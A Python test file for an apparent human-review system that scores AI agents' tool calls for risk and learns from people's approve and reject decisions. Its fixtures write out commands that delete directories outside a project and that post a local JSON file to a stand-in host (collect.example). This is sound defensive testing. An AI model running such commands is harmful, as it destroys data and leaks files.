"""What tool calls would do is learned from: kept with the model, told beside the item, and replayed."""

from __future__ import annotations

import html
import json
import random
import re
from collections.abc import Callable
from datetime import timedelta
from typing import Any

import pytest
from django.utils import timezone

from metacog.heuristics.ranking.model import Fact, Model
from metacog.models import Agent
from reviews.models import AgentResponse, Decision, HeldCall, HeldItem, RiskModel
from reviews.risk import in_force, learning
from reviews.scoring.replay import Replayer
from tests.reviews.api.test_tool_calls import ask

pytestmark = pytest.mark.django_db
WORDS = ("amber", "birch", "cedar", "delta", "ember", "fjord", "grove", "heath", "inlet", "kelp")


def bash(kuro: Any, command: str, session: str = "now") -> Any:
    return ask(kuro, session=session, name="Bash", arguments={"command": command})


def decide(rejects: Callable[[HeldItem], bool]) -> None:
    """Have people decide what is held, an hour after the other."""
    now = timezone.now()
    Decision.objects.bulk_create(
        Decision(
            held=held, agent=held.agent, verdict="reject" if rejects(held) else "approve", by="person", item_version=1,
            release_at=now, released_at=now, seq=number + 1, decided_at=now - timedelta(hours=200 - number),
        )
        for number, held in enumerate(HeldItem.objects.select_related("agent", "call").order_by("pk"))
    )  # fmt: skip
    HeldItem.objects.update(state="approved", decided_at=now)


@pytest.fixture
def decided(kuro: Any) -> None:
    """Have people reject what deletes outside the project, and what is sent to one host, in 120 sessions."""
    draw = random.Random(1)
    for number in range(120):
        name = "-".join(draw.sample(WORDS, 3))
        command = (
            f"rm -r ../{name}", f"rm -r {name}", f"curl -d @{name}.json https://collect.example/{name}",
            f"curl -d @{name}.json https://api.example/{name}",
        )[number % 4]  # fmt: skip
        bash(kuro, command, f"s{number}")
    decide(lambda held: "../" in held.text or "collect" in held.text)


def told(client: Any, held: str) -> list[str]:
    page = html.unescape(client.get(f"/queue/{held}/").content.decode())
    section = re.search(r"<h2>Learned risk.*?</section>", page, re.DOTALL)
    return re.findall(r"<li>([^<]*)</li>", section[0]) if section else []


def test_effects_and_their_places_are_learned_told_with_their_counts_and_replayed(
    aurora: Any, kuro: Any, decided: None, as_person: Any, alice: Any
) -> None:
    in_force._orders.cache_clear()
    learned = learning.learn_and_keep(aurora, timezone.now())[0].row
    assert learned.found["order"] == "learned"
    facts = learned.model.document["calls"]["facts"]
    assert facts["effect:delete path outside"][2:] == [30, 30]
    assert facts["effect:delete"][2:] == [60, 30]
    assert "collect.example" not in str(facts)
    outside, inside = bash(kuro, "rm -r ../granite"), bash(kuro, "rm -r granite")
    known, other = bash(kuro, "curl -d @g https://collect.example/g"), bash(kuro, "curl -d @g https://api.example/g")
    assert outside["risk"] > inside["risk"] + 0.2
    assert known["risk"] > other["risk"] + 0.2
    client = as_person(alice)
    assert "deletes outside the project: 30 of 30 rejected" in told(client, outside["held"])
    assert "deletes: 30 of 60 rejected" not in told(client, inside["held"])
    assert "sends data out (https://collect.example): 30 of 30 rejected" in told(client, known["held"])
    for response in AgentResponse.objects.select_related("agent__team").filter(session="now"):
        assert Replayer().replay(response).is_equal


def test_a_model_of_the_first_format_ranks_as_it_did(aurora: Any, kuro: Any, decided: None) -> None:
    """It knew the tool and its arguments, and no effect; its facts have no counts."""
    in_force._orders.cache_clear()
    document = learning.learn_and_keep(aurora, timezone.now())[0].row.model.document["calls"]
    facts = {name: fact[:2] for name, fact in document["facts"].items() if not name.startswith(("effect:", "object:"))}
    older = Model.from_dict(document)
    content = {name: value for name, value in document.items() if name != "risks"} | {"format": 1, "facts": facts}
    old = Model(
        older.kind, older.cases, older.rejected, older.intercept, older.scale, older.words,
        {name: Fact(*fact) for name, fact in facts.items()}, format=1,
    )  # fmt: skip
    assert old.as_dict() == content | {"id": old.id}
    row = RiskModel.objects.create(team=aurora, public_id=old.id, document=old.as_dict(), made_at=timezone.now())
    Agent.objects.update(risk_model=row.pk)
    item = bash(kuro, "rm -r ../granite")
    response = AgentResponse.objects.select_related("agent__team").get(session="now")
    assert response.wire_verdict()["risk_model"] == old.id
    held, model = HeldItem.objects.get(response=response), Model.from_dict(row.document)
    seen = in_force.seen_in(response, response.wire_body(), held, response.agent, 0, model=model)
    without = seen._replace(facts={name: value for name, value in seen.facts.items() if "delete" not in name})
    assert len(without.facts) == len(seen.facts) - 3
    assert item["risk"] == model.risk(without)
    assert Replayer().replay(response).is_equal
    assert all(fact.cases == 0 for _, fact in in_force.why(HeldItem.objects.get(response=response)).facts)


def test_calls_that_older_releases_stored_without_effects_still_teach(aurora: Any, kuro: Any, decided: None) -> None:
    HeldCall.objects.update(effects=[], readable=False)
    for response in AgentResponse.objects.all():
        verdict = response.wire_verdict()
        for item in verdict["items"]:
            del item["effects"], item["readable"]
        AgentResponse.objects.filter(pk=response.pk).update(verdict=json.dumps(verdict))
    assert learning.learn_and_keep(aurora, timezone.now())[0].learned.decisions == 120


def test_values_of_arguments_are_learned_by_their_path_and_shape_and_told(
    aurora: Any, kuro: Any, as_person: Any, alice: Any
) -> None:
    draw = random.Random(3)
    for number in range(120):
        eur = draw.choice((310, 350, 480)) if number % 2 else draw.choice((521, 733, 947))
        arguments = {"payment": {"eur": eur}, "order": f"W-{number}", "token": ("swordfish", "blowfishy")[number % 2]}
        ask(kuro, session=f"s{number}", name="refund", arguments=arguments)
    decide(lambda held: held.call.arguments["payment"]["eur"] > 500)
    in_force._orders.cache_clear()
    learned = learning.learn_and_keep(aurora, timezone.now())[0].row
    assert learned.found["order"] == "learned"
    facts = learned.model.document["calls"]["facts"]
    given = [name.rpartition("=")[0] for name in facts if name.startswith("given:")]
    assert sorted(given) == ["given:refund/order", *["given:refund/payment.eur"] * 2], "of secrets there is none"
    unseen = {"order": "W-4711", "token": "pufferfish"}
    dear, cheap = (
        ask(kuro, session="now", name="refund", arguments={"payment": {"eur": eur}, **unseen}) for eur in (869, 329)
    )
    assert dear["risk"] > cheap["risk"] + 0.3
    known = told(as_person(alice), dear["held"])
    assert "the argument “payment.eur” of refund (500–1,000): 60 of 60 rejected" in known
    assert not any("token" in each for each in known)
    for response in AgentResponse.objects.select_related("agent__team").filter(session="now"):
        assert Replayer().replay(response).is_equal
